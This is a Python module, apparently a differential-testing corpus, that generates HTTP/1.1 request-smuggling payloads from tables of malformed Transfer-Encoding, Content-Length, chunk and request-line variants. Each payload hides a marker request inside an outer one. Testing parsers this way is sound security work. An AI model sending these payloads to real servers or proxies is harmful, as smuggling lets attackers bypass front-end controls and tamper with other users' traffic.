"""HTTP/1.1 requests with another one hidden in them, from tables of ways to do so.

An attack is one piece of bytes with places for two marks: {outer}, the request that both readers
see, and {inner}, the one that only one of them might see.
"""

from collections.abc import Iterator
from dataclasses import dataclass

INNER = b"GET /mark/{inner} HTTP/1.1\r\nHost: a\r\n\r\n"
POST = b"POST /mark/{outer} HTTP/1.1\r\nHost: a\r\n"
END = b"0\r\n\r\n"


@dataclass(frozen=True)
class Attack:
    """``family`` is the kind of disagreement that it is after."""

    family: str
    name: str
    sent: bytes

    def with_marks(self, outer: str, inner: str) -> bytes:
        """The bytes for the wire, with lengths as for these marks' own: all are of one length."""
        return self.sent.replace(b"{outer}", outer.encode()).replace(b"{inner}", inner.encode())


MARK = 7
"""How long marks are: the lengths below count with it."""


def length(data: bytes) -> int:
    """Of the bytes when the marks are in."""
    return len(data) + (data.count(b"{outer}") + data.count(b"{inner}")) * (MARK - len("{inner}"))


CODINGS = {
    "plain": b"Transfer-Encoding: chunked\r\n",
    "in capitals": b"TRANSFER-ENCODING: CHUNKED\r\n",
    "no blank": b"Transfer-Encoding:chunked\r\n",
    "blank before the colon": b"Transfer-Encoding : chunked\r\n",
    "tab before the colon": b"Transfer-Encoding\t: chunked\r\n",
    "vertical tab in the value": b"Transfer-Encoding: \x0bchunked\r\n",
    "form feed in the value": b"Transfer-Encoding: \x0cchunked\r\n",
    "tab in the value": b"Transfer-Encoding:\tchunked\r\n",
    "tab behind the value": b"Transfer-Encoding: chunked\t\r\n",
    "CR behind the value": b"Transfer-Encoding: chunked\r\r\n",
    "NUL behind the value": b"Transfer-Encoding: chunked\0\r\n",
    "NUL in the name": b"Transfer-Encoding\0: chunked\r\n",
    "misspelled": b"Transfer-Encoding: xchunked\r\n",
    "cut": b"Transfer-Encoding: chunke\r\n",
    "in quotes": b'Transfer-Encoding: "chunked"\r\n',
    "with a parameter": b"Transfer-Encoding: chunked;q=1\r\n",
    "with a comma": b"Transfer-Encoding: chunked,\r\n",
    "after a comma": b"Transfer-Encoding: , chunked\r\n",
    "after identity": b"Transfer-Encoding: identity, chunked\r\n",
    "before identity": b"Transfer-Encoding: chunked, identity\r\n",
    "after gzip": b"Transfer-Encoding: gzip, chunked\r\n",
    "twice in a list": b"Transfer-Encoding: chunked, chunked\r\n",
    "in two lines": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    "then another": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n",
    "behind another": b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked\r\n",
    "behind an empty one": b"Transfer-Encoding:\r\nTransfer-Encoding: chunked\r\n",
    "folded": b"Transfer-Encoding:\r\n chunked\r\n",
    "folded by a tab": b"Transfer-Encoding:\r\n\tchunked\r\n",
    "folded behind another": b"X-A: b\r\n Transfer-Encoding: chunked\r\n",
    "behind a bare LF": b"X-A: b\nTransfer-Encoding: chunked\r\n",
    "behind a bare CR": b"X-A: b\rTransfer-Encoding: chunked\r\n",
    "ended by a bare LF": b"Transfer-Encoding: chunked\n",
    "blank before the name": b" Transfer-Encoding: chunked\r\n",
    "with an underscore": b"Transfer_Encoding: chunked\r\n",
    "with a wide dash": b"Transfer\xadEncoding: chunked\r\n",
    "eight bits in the value": b"Transfer-Encoding: \xffchunked\r\n",
    "eight bits behind the value": b"Transfer-Encoding: chunked\xa0\r\n",
    "named by Connection": b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n",
    "name doubled": b"Transfer-Encoding: Transfer-Encoding: chunked\r\n",
    "colon doubled": b"Transfer-Encoding:: chunked\r\n",
}
LENGTHS = {
    "twice, the first counts": (b"Content-Length: {all}\r\nContent-Length: 0\r\n"),
    "twice, the last counts": (b"Content-Length: 0\r\nContent-Length: {all}\r\n"),
    "as list": b"Content-Length: {all}, 0\r\n",
    "as list, nothing first": b"Content-Length: 0, {all}\r\n",
    "as list of the same": b"Content-Length: {all}, {all}\r\n",
    "plus": b"Content-Length: +{all}\r\n",
    "minus": b"Content-Length: -{all}\r\n",
    "zeros": b"Content-Length: 00{all}\r\n",
    "two words": b"Content-Length: 0 {all}\r\n",
    "hex": b"Content-Length: 0x{all}\r\n",
    "underscore": b"Content-Length: {all}_0\r\n",
    "fraction": b"Content-Length: {all}.0\r\n",
    "exponent": b"Content-Length: {all}e0\r\n",
    "quotes": b'Content-Length: "{all}"\r\n',
    "empty": b"Content-Length:\r\n",
    "empty and one": b"Content-Length:\r\nContent-Length: {all}\r\n",
    "folded": b"Content-Length:\r\n {all}\r\n",
    "folded behind another": b"X-A: b\r\n Content-Length: {all}\r\n",
    "blank before the colon": b"Content-Length : {all}\r\n",
    "blank before the name": b" Content-Length: {all}\r\n",
    "NUL behind": b"Content-Length: {all}\0\r\n",
    "behind a bare LF": b"X-A: b\nContent-Length: {all}\r\n",
    "behind a bare CR": b"X-A: b\rContent-Length: {all}\r\n",
    "with an underscore": b"Content_Length: {all}\r\n",
    "eight bits": b"Content-Length: \xb2\r\n",
    "tab behind": b"Content-Length: {all}\t\r\n",
    "vertical tab before": b"Content-Length: \x0b{all}\r\n",
    "beyond 32 bits": b"Content-Length: 4294967296\r\n",
    "beyond 64 bits": b"Content-Length: 18446744073709551616\r\n",
    "named by Connection": b"Connection: Content-Length\r\nContent-Length: {all}\r\n",
}
CHUNKS = {
    "size ended by LF": b"5\nhello\r\n0\r\n\r\n",
    "size ended by CR": b"5\rhello\r\n0\r\n\r\n",
    "size before a blank": b"5 \r\nhello\r\n0\r\n\r\n",
    "size after a blank": b" 5\r\nhello\r\n0\r\n\r\n",
    "size with plus": b"+5\r\nhello\r\n0\r\n\r\n",
    "size with minus": b"-5\r\nhello\r\n0\r\n\r\n",
    "size with 0x": b"0x5\r\nhello\r\n0\r\n\r\n",
    "size with underscore": b"0_5\r\nhello\r\n0\r\n\r\n",
    "size of zeros": b"000000000000000000005\r\nhello\r\n0\r\n\r\n",
    "size beyond 32 bits": b"100000005\r\nhello\r\n0\r\n\r\n",
    "size beyond 64 bits": b"10000000000000005\r\nhello\r\n0\r\n\r\n",
    "size of no digit": b"\r\nhello\r\n0\r\n\r\n",
    "size not hex": b"5g\r\nhello\r\n0\r\n\r\n",
    "data too long": b"5\r\nhello, hello\r\n0\r\n\r\n",
    "data too short": b"9\r\nhello\r\n0\r\n\r\n",
    "data ended by LF": b"5\r\nhello\n0\r\n\r\n",
    "data ended by CR": b"5\r\nhello\r0\r\n\r\n",
    "data ended by other bytes": b"5\r\nhelloXX0\r\n\r\n",
    "end by LF": b"5\r\nhello\r\n0\n\n",
    "end by LF alone": b"5\r\nhello\r\n0\r\n\n",
    "end of two digits": b"5\r\nhello\r\n00\r\n\r\n",
    "extension": b"5;a=b\r\nhello\r\n0\r\n\r\n",
    "extension with LF": b"5;a\nb\r\nhello\r\n0\r\n\r\n",
    "extension with CR": b"5;a\rb\r\nhello\r\n0\r\n\r\n",
    "extension ended by LF": b"5;\nhello\r\n0\r\n\r\n",
    "extension in quotes with CRLF": b'5;a="\r\nhello\r\n0\r\n\r\n',
    "extension of the end with LF": b"5\r\nhello\r\n0;\n\r\n",
    "extension that holds a chunk": b"2;\nxx\r\n5\r\nhello\r\n0\r\n\r\n",
    "trailer": b"5\r\nhello\r\n0\r\nX-A: b\r\n\r\n",
    "trailer Content-Length": b"5\r\nhello\r\n0\r\nContent-Length: 50\r\n\r\n",
    "trailer Transfer-Encoding": b"5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n",
    "trailer without colon": b"5\r\nhello\r\n0\r\nX\r\n\r\n",
    "trailer ended by LF": b"5\r\nhello\r\n0\r\nX-A: b\n\r\n",
    "trailer that is a request": b"5\r\nhello\r\n0\r\nGET /mark/{inner} HTTP/1.1\r\n\r\n",
}
HEADS = {
    "bare LF at the end": b"GET /mark/{outer} HTTP/1.1\r\nHost: a\n\n",
    "bare LF everywhere": b"GET /mark/{outer} HTTP/1.1\nHost: a\n\n",
    "bare CR at the end": b"GET /mark/{outer} HTTP/1.1\r\nHost: a\r\r",
    "CR LF within a value": b"GET /mark/{outer} HTTP/1.1\r\nHost: a\r\nX: y\r\n\r\n",
    "two Hosts": b"GET /mark/{outer} HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    "Host behind a blank": b"GET /mark/{outer} HTTP/1.1\r\n Host: b\r\nHost: a\r\n\r\n",
    "absolute target": b"GET http://b/mark/{outer} HTTP/1.1\r\nHost: a\r\n\r\n",
    "no version": b"GET /mark/{outer}\r\n\r\n",
    "version 1.0 kept": b"GET /mark/{outer} HTTP/1.0\r\nHost: a\r\nConnection: keep-alive\r\n\r\n",
    "version 2.0": b"GET /mark/{outer} HTTP/2.0\r\nHost: a\r\n\r\n",
    "version 1.10": b"GET /mark/{outer} HTTP/1.10\r\nHost: a\r\n\r\n",
    "tabs between words": b"GET\t/mark/{outer}\tHTTP/1.1\r\nHost: a\r\n\r\n",
    "two blanks": b"GET  /mark/{outer}  HTTP/1.1\r\nHost: a\r\n\r\n",
    "blank in the target": b"GET /mark/{outer} x HTTP/1.1\r\nHost: a\r\n\r\n",
    "NUL in the target": b"GET /mark/{outer}\0 HTTP/1.1\r\nHost: a\r\n\r\n",
    "empty lines before": b"\r\n\r\nGET /mark/{outer} HTTP/1.1\r\nHost: a\r\n\r\n",
    "a name with brackets": b"GET /mark/{outer} HTTP/1.1\r\nHost: a\r\n[x]: y\r\n\r\n",
    "a line without colon": b"GET /mark/{outer} HTTP/1.1\r\nHost: a\r\nxyz\r\n\r\n",
    "GET with a length": b"GET /mark/{outer} HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nhello",
    "HEAD with a length": b"HEAD /mark/{outer} HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\n"
    b"hello",
    "expectation": POST + b"Expect: 100-continue\r\nContent-Length: 5\r\n\r\nhello",
    "expectation unknown": POST + b"Expect: y 100-continue\r\nContent-Length: 5\r\n\r\nhello",
    "upgrade to h2c": b"GET /mark/{outer} HTTP/1.1\r\nHost: a\r\nConnection: Upgrade,"
    b" HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
    "upgrade to a socket": b"GET /mark/{outer} HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\n"
    b"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: eA==\r\n\r\n",
}


def _attacks() -> Iterator[Attack]:
    for name, coding in CODINGS.items():
        hidden = END + INNER
        known = b"Content-Length: %d\r\n" % length(hidden)
        yield Attack("CL.TE", name, POST + known + coding + b"\r\n" + hidden)
        yield Attack("TE.CL", name, _te_cl(coding))
    for name, coding in CODINGS.items():
        if name != "plain":
            other = b"Transfer-Encoding: chunked\r\n" + coding
            yield Attack("TE.TE", name, POST + other + b"\r\n" + END + INNER)
    for name, line in LENGTHS.items():
        whole = line.replace(b"{all}", b"%d" % length(INNER))
        yield Attack("CL.CL", name, POST + whole + b"\r\n" + INNER)
    for name, body in CHUNKS.items():
        yield Attack("chunks", name, POST + b"Transfer-Encoding: chunked\r\n\r\n" + body + INNER)
    for name, head in HEADS.items():
        yield Attack("head", name, head + INNER)
    old = POST.replace(b"HTTP/1.1", b"HTTP/1.0")
    kept = b"Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n"
    yield Attack("TE in 1.0", "chunked, kept", old + kept + END + INNER)
    yield Attack("TE in 1.0", "with a length", old + b"Content-Length: 5\r\n" + kept + END + INNER)


def _te_cl(coding: bytes) -> bytes:
    chunk = b"%x\r\n" % length(INNER)
    known = b"Content-Length: %d\r\n" % len(chunk)
    return POST + known + coding + b"\r\n" + chunk + INNER + b"\r\n" + END


ATTACKS = tuple(_attacks())
